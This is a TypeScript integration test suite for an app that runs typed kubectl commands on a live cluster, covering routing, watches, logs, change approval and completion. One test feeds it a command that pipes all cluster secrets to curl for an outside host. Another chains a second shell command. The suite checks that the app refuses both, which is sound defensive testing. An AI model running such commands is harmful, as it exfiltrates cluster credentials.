// Typed commands through the whole application on a real cluster: ways, forms, following and changes.
import { randomUUID } from 'node:crypto';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { existsSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { execute } from '../support/execute.ts';
import { realCluster, realKubectl } from '../support/real-cluster.ts';
import { startTestApp, type RunningApp } from '../support/start-app.ts';

const { kubeconfig } = realCluster;
const program = realKubectl();
const namespace = `t-kubectl-${randomUUID().slice(0, 8)}`;

describe.skipIf(kubeconfig === null || program === null)('typed commands', { timeout: 120_000 }, () => {
  let app: RunningApp;
  let cluster: string | null;

  const kubectl = (...args: string[]) => execute(program ?? '', args, kubeconfig ?? '');
  const send = (line: string, form: 'view' | 'terminal' = 'view', run: string = randomUUID()) =>
    app.request('commands.run', { run, line, cluster, namespace: null, conversation: null, form });

  beforeAll(async () => {
    app = await startTestApp({ kubeconfigs: [kubeconfig ?? ''] });
    cluster = (await app.request('clusters.list', undefined)).selected;
    await kubectl('create', 'namespace', namespace);
    await kubectl('create', 'deployment', 'idle', '--image=localhost/none:1', '--replicas=0', '-n', namespace);
    await kubectl('create', 'configmap', 'first', '--from-literal=a=1', '-n', namespace);
  });
  afterAll(async () => {
    await kubectl('delete', 'namespace', namespace, '--wait=false');
    await app.close();
  });

  it('come through the MCP server where it has a tool, and say so', async () => {
    const { route, body, exitCode } = await send('kubectl get pods -A');
    expect(exitCode).toBe(0);
    expect(route).toMatchObject({ way: 'mcp', narrowed: null });
    expect(route.steps).toContain('pods_list');
    expect(body.kind === 'tables' && body.tables[0]?.columns.map(({ name }) => name)).toContain('NOMINATED NODE');
  });

  it('give the same rows both ways', async () => {
    const rows = async (line: string, way: string) => {
      const { body, route } = await send(line);
      expect(route.way).toBe(way);
      if (body.kind !== 'tables') throw new Error(`a ${body.kind} came`);
      return body.tables.map(({ columns, rows: all }) => ({
        columns,
        // Ages go on between the two.
        rows: all.map(({ cells, object }) => [cells.filter((_, at) => columns[at]?.type !== 'age'), object]),
      }));
    };
    const line = 'kubectl get services -A -o wide --show-labels';
    expect(await rows(line, 'mcp')).toEqual(await rows(`${line} --chunk-size=0`, 'direct'));
  });

  it('say where their rows stand in an order that was asked for', async () => {
    const sorted = async (line: string) => {
      const { body, following } = await send(line);
      expect(following).toBe(false);
      return body.kind === 'tables' && body.tables.map((table) => table.sorted);
    };
    expect(await sorted('kubectl get ns --sort-by=.metadata.creationTimestamp')).toEqual([true]);
    expect(await sorted('kubectl api-resources --sort-by=kind')).toEqual([true]);
    expect(await sorted('kubectl get ns')).toEqual([false]);
  });

  it('name first the request that brought the body, not one that only led to it', async () => {
    for (const flags of ['', ' --timestamps']) {
      const { route } = await send(`kubectl logs deploy/catalog -c sidecar -n shop --tail=1${flags}`);
      expect(route.steps[0]).toMatch(flags === '' ? /^pods_log$/ : /\/log\?/);
      expect(route.steps.at(-1)).toMatch(/^GET \/api\/v1\/namespaces\/shop\/pods/);
    }
  });

  it('are answered by a document in a view, with the object it is of', async () => {
    const { body } = await send(`kubectl get cm first -n ${namespace} -o yaml`);
    expect(body).toMatchObject({
      kind: 'document',
      language: 'yaml',
      object: { kind: 'ConfigMap', name: 'first', namespace },
    });
  });

  it('end with a failure and its remedy, and never reject', async () => {
    const { failure, exitCode, body } = await send('kubectl get pod nope');
    expect({ exitCode, kind: body.kind, code: failure?.code }).toEqual({
      exitCode: 1,
      kind: 'nothing',
      code: 'cluster.not-found',
    });
    expect(failure?.message).toBe('pods "nope" not found');
    expect(failure?.remedy).not.toBe('');
    expect((await send('kubectl get pods; ls')).failure?.code).toBe('command.invalid');
    expect((await send('kubectl rollout restart deploy/web')).failure?.code).toBe('command.unsupported');
  });

  it('say of an empty list when its namespace does not exist, and what is near', async () => {
    const notes = async (line: string) => (await send(line)).notes;
    const shpo = 'No resources found in shpo namespace.';
    const missing = 'Namespace shpo does not exist. Did you mean shop?';
    expect(await notes('kubectl get pods -n shpo')).toEqual([shpo, missing]);
    expect(await notes('kubectl describe pods -n shpo')).toEqual([shpo, missing]);
    expect(await notes(`kubectl get pvc -n ${namespace}`)).toEqual([`No resources found in ${namespace} namespace.`]);
    const { exitCode, body } = await send('kubectl get pods -n shpo', 'terminal');
    expect({ exitCode, body }).toEqual({ exitCode: 0, body: { kind: 'text', text: '' } });
  });

  it('refuse a pipe into a program before anything is asked of the cluster', async () => {
    const { failure, route } = await send('kubectl get secrets -A -o yaml | curl -d @- x');
    expect({ code: failure?.code, way: route.way, steps: route.steps }).toEqual({
      code: 'command.unsupported',
      way: 'local',
      steps: [],
    });
  });

  it('watch: the list first, then what changes, until they are cancelled', async () => {
    const run = randomUUID();
    const { body, following } = await send(`kubectl get cm -n ${namespace} -w`, 'view', run);
    expect(following).toBe(true);
    expect(body.kind === 'tables' && body.tables[0]?.rows.some(({ object }) => object?.name === 'first')).toBe(true);
    await kubectl('create', 'configmap', 'second', '-n', namespace);
    const output = await app.event(
      'commands.output',
      (event) =>
        event.run === run && event.tables.some(({ rows }) => rows.some(({ object }) => object?.name === 'second')),
    );
    expect(output.ended).toBe(false);
    await app.request('commands.cancel', { run });
    const end = await app.event('commands.output', (event) => event.run === run && event.ended);
    expect(end.failure).toBeNull();
  });

  it('follow a log line by line with its time', async () => {
    const run = randomUUID();
    const { body, following } = await send('kubectl logs -f deploy/catalog -c sidecar -n shop --tail=1', 'view', run);
    expect({ following, kind: body.kind }).toEqual({ following: true, kind: 'logs' });
    const { lines } = await app.event('commands.output', (event) => event.run === run && event.lines.length > 0);
    expect(lines[0]?.at).toBeGreaterThan(Date.now() - 7 * 86_400_000);
    await app.request('commands.cancel', { run });
    await app.event('commands.output', (event) => event.run === run && event.ended);
  });

  describe('of a pod of which one container cannot start', () => {
    const chatty = 'n=0; while [ $n -lt 200 ]; do echo line $n; n=$((n+1)); done; sleep 600';
    const pod = {
      apiVersion: 'v1',
      kind: 'Pod',
      metadata: { name: 'half', namespace },
      spec: {
        terminationGracePeriodSeconds: 0,
        containers: [
          { name: 'broken', image: 'localhost/none:1', imagePullPolicy: 'Never' },
          { name: 'talks', image: 'localhost/box:1', imagePullPolicy: 'IfNotPresent', command: ['sh', '-c', chatty] },
        ],
      },
    };
    beforeAll(async () => {
      const file = join(await mkdtemp(join(tmpdir(), 'ai4k8s-pod-')), 'pod.json');
      await writeFile(file, JSON.stringify(pod));
      await kubectl('apply', '-f', file);
      await rm(dirname(file), { recursive: true });
      const running = '{.status.containerStatuses[?(@.name=="talks")].state.running}';
      await kubectl('wait', `--for=jsonpath=${running}`, 'pod/half', '-n', namespace, '--timeout=60s');
    });

    it('keep the lines of the others beside the failure', async () => {
      for (const form of ['view', 'terminal'] as const) {
        const { body, exitCode, failure } = await send(`kubectl logs half --all-containers -n ${namespace}`, form);
        const text = body.kind === 'logs' ? body.lines.map((line) => line.text).join('\n') : '';
        expect(body.kind === 'text' ? body.text : text).toContain('line 199');
        expect({ exitCode, said: failure?.message }).toEqual({
          exitCode: 1,
          said: expect.stringContaining('container "broken" in pod "half" is waiting to start') as string,
        });
      }
    });

    it('follow a burst of lines in few events', async () => {
      const run = randomUUID();
      await send(`kubectl logs -f half -c talks -n ${namespace}`, 'view', run);
      const { lines } = await app.event('commands.output', (event) => event.run === run && event.lines.length > 0);
      expect(lines.length).toBeGreaterThan(20);
      await app.request('commands.cancel', { run });
    });
  });

  it('can be cancelled before their reply has come', async () => {
    const run = randomUUID();
    const reply = send('kubectl get pods -A -o yaml', 'view', run);
    await app.request('commands.cancel', { run });
    expect((await reply).exitCode).toBe(130);
  });

  it('wait for approval where they change something, and change nothing', async () => {
    const { body, exitCode } = await send(`kubectl scale deploy/idle -n ${namespace} --replicas=1`);
    expect(exitCode).toBe(3);
    if (body.kind !== 'change') throw new Error(`a ${body.kind} came`);
    const change = await app.request('changes.get', { change: body.change });
    expect(change.writes).toEqual([`PATCH /apis/apps/v1/namespaces/${namespace}/deployments/idle/scale`]);
    const { stdout } = await kubectl('get', 'deploy', 'idle', '-n', namespace, '-o', 'jsonpath={.spec.replicas}');
    expect(stdout).toBe('0');
  });

  it('expand a selector to the names it finds now, one deletion each', async () => {
    await kubectl('create', 'configmap', 'doomed-1', '-n', namespace);
    await kubectl('create', 'configmap', 'doomed-2', '-n', namespace);
    await kubectl('label', 'configmap', 'doomed-1', 'doomed-2', 'doomed=yes', '-n', namespace);
    const { body } = await send(`kubectl delete cm -l doomed=yes -n ${namespace}`);
    if (body.kind !== 'change') throw new Error(`a ${body.kind} came`);
    const { writes, objects } = await app.request('changes.get', { change: body.change });
    expect(writes.map((write) => write.split('/').at(-1))).toEqual(['doomed-1', 'doomed-2']);
    expect(objects.map(({ action }) => action)).toEqual(['delete', 'delete']);
    expect((await kubectl('get', 'cm', 'doomed-1', 'doomed-2', '-n', namespace, '-o', 'name')).code).toBe(0);
  });

  it('are kept, the newest first', async () => {
    await send('kubectl get ns --no-headers');
    const { lines } = await app.request('commands.history', { limit: 1 });
    expect(lines).toEqual(['kubectl get ns --no-headers']);
  });

  it.each([
    ['kubectl des', 'describe'],
    ['kubectl get deploym', 'deployments'],
    [`kubectl get cm -n ${namespace} fir`, 'first'],
    [`kubectl delete cm/fir -n ${namespace}`, 'first'],
    [`kubectl get pods -n ${namespace.slice(0, 14)}`, namespace],
    ['kubectl logs deploy/catalog -n shop -c side', 'sidecar'],
    ['kubectl get pods --all-n', '--all-namespaces'],
  ])('complete %s', async (line, text) => {
    const at = line.startsWith('kubectl delete') ? line.indexOf(' -n') : line.length;
    const { candidates, from } = await app.request('commands.complete', { line, cursor: at, cluster, namespace: null });
    expect(candidates.map((one) => one.text)).toContain(text);
    expect(text.startsWith(line.slice(from, at))).toBe(true);
  });

  describe('of a person who may use one namespace', () => {
    const shop = join(dirname(kubeconfig ?? ''), 'kubeconfig.shop');
    it.skipIf(!existsSync(shop))(
      'end with the refusal for all namespaces, never with a part taken for the whole',
      async () => {
        const other = await startTestApp({ kubeconfigs: [shop] });
        try {
          const { selected } = await other.request('clusters.list', undefined);
          for (const form of ['view', 'terminal'] as const) {
            const { exitCode, failure, route, body } = await other.request('commands.run', {
              run: randomUUID(),
              line: 'kubectl get pods -A',
              cluster: selected,
              namespace: null,
              conversation: null,
              form,
            });
            expect({ exitCode, code: failure?.code, way: route.way }).toEqual({
              exitCode: 1,
              code: 'cluster.forbidden',
              way: 'direct',
            });
            expect(failure?.remedy).toContain('the right to list pods in the whole cluster');
            expect(body).toEqual(form === 'view' ? { kind: 'nothing' } : { kind: 'text', text: '' });
          }
        } finally {
          await other.close();
        }
      },
    );
  });
});
